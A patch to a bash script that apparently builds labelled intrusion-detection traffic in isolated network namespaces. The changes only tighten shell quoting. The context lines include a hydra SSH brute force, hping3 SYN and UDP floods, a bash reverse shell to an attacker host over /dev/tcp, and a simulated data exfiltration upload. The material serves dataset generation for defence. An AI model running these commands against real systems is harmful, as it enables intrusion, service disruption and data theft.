@@ -197,7 +197,7 @@ inns() { local h=$1; shift; ip netns exec "$P-$h" "$@"; }
 bg() {  # LOGNAME HOST CMD...   start in HOST's namespace in the background, remember the PID
     local name=$1 h=$2; shift 2
     ip netns exec "$P-$h" "$@" >"$WORK/log/$name.log" 2>&1 &
-    PIDS+=($!)
+    PIDS+=("$!")
 }
 
 setup_net() {
@@ -426,12 +426,14 @@ start_benign() {  # TOTAL_SECONDS
             *) continue;;
         esac
         i=$((i + 1))
+        local pause=()
+        [[ $h == atk ]] && pause=(--pause-file "$PAUSE_FILE")
         ip netns exec "$P-$h" timeout $((total + 60)) "$PY" "$HERE/benign.py" --name "$h" \
             --seed $((SEED * 1000 + i)) --duration "$total" --rate "$rate" --profile "$profile" \
             --peers "$peers" --download-max-mb "$DOWNLOAD_MAX_MB" --ssh-user "$SSH_USER" --ssh-password "$SSH_PASS" \
-            --log "$WORK/log/benign-$h.jsonl" $([[ $h == atk ]] && echo --pause-file "$PAUSE_FILE") \
+            --log "$WORK/log/benign-$h.jsonl" "${pause[@]}" \
             >"$WORK/log/benign-$h.log" 2>&1 &
-        PIDS+=($!); BENIGN_PIDS+=($!)
+        PIDS+=("$!"); BENIGN_PIDS+=("$!")
     done
 }
 
@@ -497,7 +499,7 @@ attack_bruteforce_ssh() {
       echo "$SSH_PASS"; } | awk '!seen[$0]++' >"$WORK/words.txt"
     CMD="hydra -I -f -t 4 -l $SSH_USER -P words.txt($(wc -l <"$WORK/words.txt") words) ssh://$VICTIM"
     NOTES="hydra SSH brute force, $(wc -l <"$WORK/words.txt") passwords, the last one correct"
-    (cd "$WORK" && inns atk timeout $(lvl 180 420 900) hydra -I -f -t 4 -l "$SSH_USER" -P "$WORK/words.txt" \
+    (cd "$WORK" && inns atk timeout "$(lvl 180 420 900)" hydra -I -f -t 4 -l "$SSH_USER" -P "$WORK/words.txt" \
         -o "$WORK/log/hydra-found.txt" "ssh://$VICTIM" >"$WORK/log/hydra.txt" 2>&1) || true
 }
 attack_reverse_shell() {
@@ -516,7 +518,7 @@ attack_reverse_shell() {
         sleep 1
     } | ip netns exec "$P-atk" timeout $((n * 4 + 30)) nc -l "$ATK" "$port" >"$WORK/log/revshell-attacker.txt" 2>&1 &
     local lpid=$!
-    PIDS+=($lpid)
+    PIDS+=("$lpid")
     sleep 1
     inns "$h" timeout $((n * 4 + 25)) bash -c "bash --norc --noprofile -i >& /dev/tcp/$ATK/$port 0>&1" \
         >/dev/null 2>&1 || true
@@ -529,7 +531,7 @@ attack_flood_syn() {
     port=$([[ $h == web ]] && echo 80 || echo 5432)
     CMD="hping3 -S -p $port -c $c -i $iv $VICTIM"
     NOTES="hping3 SYN flood, $c SYNs to $h:$port (source ports increment)"
-    inns atk timeout $(lvl 30 60 120) hping3 -S -p "$port" -c "$c" -i "$iv" "$VICTIM" \
+    inns atk timeout "$(lvl 30 60 120)" hping3 -S -p "$port" -c "$c" -i "$iv" "$VICTIM" \
         >"$WORK/log/hping-syn.txt" 2>&1 || true
 }
 attack_flood_udp() {
@@ -539,7 +541,7 @@ attack_flood_udp() {
     port=$([[ $h == dns ]] && echo 53 || echo 123)
     CMD="hping3 --udp -p $port -d 256 -c $c -i $iv $VICTIM"
     NOTES="hping3 UDP flood, $c datagrams of 256 B to $h:$port"
-    inns atk timeout $(lvl 30 60 120) hping3 --udp -p "$port" -d 256 -c "$c" -i "$iv" "$VICTIM" \
+    inns atk timeout "$(lvl 30 60 120)" hping3 --udp -p "$port" -d 256 -c "$c" -i "$iv" "$VICTIM" \
         >"$WORK/log/hping-udp.txt" 2>&1 || true
 }
 attack_arp_spoof() {
@@ -564,7 +566,7 @@ attack_exfiltration() {
     NOTES="data exfiltration: $mb MB upload from $h to the attacker's port $port at ~$((rate / 1000000)) MB/s"
     ip netns exec "$P-atk" timeout 120 "$PY" "$HERE/sink.py" tcp "$ATK" "$port" >"$WORK/log/exfil-sink.txt" 2>&1 &
     local spid=$!
-    PIDS+=($spid)
+    PIDS+=("$spid")
     sleep 1
     inns "$h" timeout 110 "$PY" "$HERE/exfil.py" "$ATK" "$port" $((mb * 1000000)) "$rate" \
         >"$WORK/log/exfil.txt" 2>&1 || true
@@ -624,19 +626,19 @@ export_softflowd() {  # VERSION OUTFILE PORT [EXTRA...]
     rm -f "$ctl" "$pidf"
     "$PY" "$HERE/sink.py" udp "$port" 2>>"$WORK/log/sink.log" &
     local sink=$! tpid
-    PIDS+=($sink)
+    PIDS+=("$sink")
     : >"$WORK/log/tcpdump-lo.log"
     timeout 1800 tcpdump -Z root -n -i lo -s 0 -U -w "$out" udp and dst host 127.0.0.1 and dst port "$port" \
         2>"$WORK/log/tcpdump-lo.log" &
     tpid=$!
-    PIDS+=($tpid)
+    PIDS+=("$tpid")
     for _ in $(seq 1 100); do grep -q 'listening on' "$WORK/log/tcpdump-lo.log" && break; sleep 0.05; done
     sleep 1
     # run from the out dir: softflowd exports the -r argument as the interface name
     (cd "$OUT" && exec timeout 1500 softflowd -d -a -r capture.pcap -n "127.0.0.1:$port" -v "$ver" \
         -c "$ctl" -p "$pidf" "$@") >"$slog" 2>&1 &
     local sf=$! prev=-1 cur
-    PIDS+=($sf)
+    PIDS+=("$sf")
     # softflowd 1.1.0 either exits at EOF by itself or waits on its control socket
     for _ in $(seq 1 3000); do
         kill -0 "$sf" 2>/dev/null || break
